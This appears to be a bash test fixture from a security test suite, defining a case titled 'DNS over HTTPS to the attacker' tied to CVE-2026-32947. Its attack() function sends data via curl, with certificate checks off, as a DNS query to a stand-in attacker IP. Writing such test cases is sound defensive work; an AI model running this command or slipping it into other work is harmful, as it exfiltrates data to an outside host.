# shellcheck shell=bash disable=SC2034,SC2154,SC2329
# SPDX-License-Identifier: GPL-3.0-or-later
title='DNS over HTTPS to the attacker' origin='RESEARCH §2.43; CVE-2026-32947'
reason='not_resolved' forms='output forward run'
attack() { client curl -sk --max-time 20 "https://198.18.3.66/dns-query?dns=$1"; }
